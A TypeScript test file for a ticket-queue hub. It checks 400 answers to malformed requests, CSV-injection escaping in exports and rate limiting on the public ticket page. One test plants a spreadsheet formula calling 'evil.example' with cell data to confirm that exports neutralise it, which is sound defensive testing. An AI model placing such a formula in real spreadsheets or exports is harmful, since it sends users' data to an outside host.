import { afterEach, describe, expect, it } from 'vitest';
import { connect } from 'node:net';
import pino from 'pino';
import { csvCell } from '../src/http/api.js';
import { startTestHub, testConfig, type TestHub } from '@luot/hub/testing';

let t: TestHub;
afterEach(async () => t?.close());

/** RFC 4180 fields, as a spreadsheet reads them: quoted fields may hold commas, quotes and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  return rows;
}

/** Send `requestLine` as is over a raw TCP socket (fetch would refuse to) and read the whole answer. */
async function rawRequest(port: number, requestLine: string): Promise<{ status: number; body: string }> {
  const socket = connect(port, '127.0.0.1');
  socket.end(`${requestLine}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
  let answer = '';
  socket.setEncoding('utf8').on('data', (d: string) => (answer += d));
  await new Promise((resolve, reject) => socket.on('close', resolve).on('error', reject));
  const [head = '', body = ''] = answer.split('\r\n\r\n');
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1]), body };
}

describe('malformed requests', () => {
  it('a malformed request line is a 400 like any bad input, and logs no error', async () => {
    const logs: Array<{ level: number; msg: string }> = [];
    const logger = pino({ level: 'trace' }, { write: (line: string) => logs.push(JSON.parse(line)) });
    t = await startTestHub({ logger });
    for (const target of [
      'http://[',
      'http://[/api/health',
      '/%zz',
      '/kiosk/%E0%A4%A',
      '/api/tickets/by-token/%zz',
    ]) {
      const answer = await rawRequest(t.hub.port, `GET ${target} HTTP/1.1`);
      expect(answer.status, target).toBe(400);
      // The API's own error shape, as for a bad date: one `error` string, no framework internals.
      expect(JSON.parse(answer.body), target).toEqual({ error: expect.any(String) });
    }
    expect(logs.filter((l) => l.level >= 50)).toEqual([]);
    // The hub goes on serving.
    const health = await fetch(`${t.hub.url}/api/health`);
    expect(health.status).toBe(200);
    // No city in the configuration: no uplink (docs/city.md).
    expect(((await health.json()) as { uplink: unknown }).uplink).toBeNull();
    expect(t.hub.uplink).toBeNull();
  });
});

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    for (const s of ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(csvCell(s).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
    expect(csvCell('A012')).toBe('A012');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    // Numbers are data, never formulas: a count stays a number in the spreadsheet.
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(null)).toBe('');
  });

  it('exports a ticket whose note is a formula so that no cell starts one', async () => {
    t = await startTestHub();
    const kiosk = await t.client('test-kiosk-1-token');
    await kiosk.issue({ service: 'A' });
    const c1 = await t.counter(1);
    await c1.callNext();
    const note = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
    await c1.finish({ kind: 'other', note });
    const auth = { headers: await t.supervisorHeaders() };
    const csv = await (await fetch(`${t.hub.url}/api/exports/tickets.csv`, auth)).text();
    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(1);
    for (const cell of rows[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The note reads back as it was written.
    const outcome = rows[0]![header!.indexOf('outcome')]!.replace(/^'/, '');
    expect(JSON.parse(outcome)).toMatchObject({ kind: 'other', note });
  });
});

describe('a flood on the public ticket page', () => {
  it('is answered 429 with Retry-After and words, per client address, while the hub goes on', async () => {
    const t = await startTestHub({ config: testConfig({ publicRequestsPerMinute: 5 }) });
    try {
      const kiosk = await t.client('test-kiosk-1-token');
      const issued = await kiosk.issue({ service: 'C' });
      const token = issued.result.token;
      const answers = await Promise.all(
        Array.from({ length: 8 }, () => fetch(`${t.hub.url}/api/tickets/by-token/${token}`)),
      );
      const statuses = answers.map((r) => r.status).sort();
      expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429, 429]);
      const refused = answers.find((r) => r.status === 429)!;
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      const body = (await refused.json()) as { code: string; message: { vi: string } };
      expect(body.code).toBe('TOO_MANY_REQUESTS');
      expect(body.message.vi).toContain('Quá nhiều yêu cầu');
      // The office is not slowed: a kiosk still gets its number.
      expect((await kiosk.issue({ service: 'C' })).result.ticket.number).toBe('C002');
    } finally {
      await t.close();
    }
  });
});
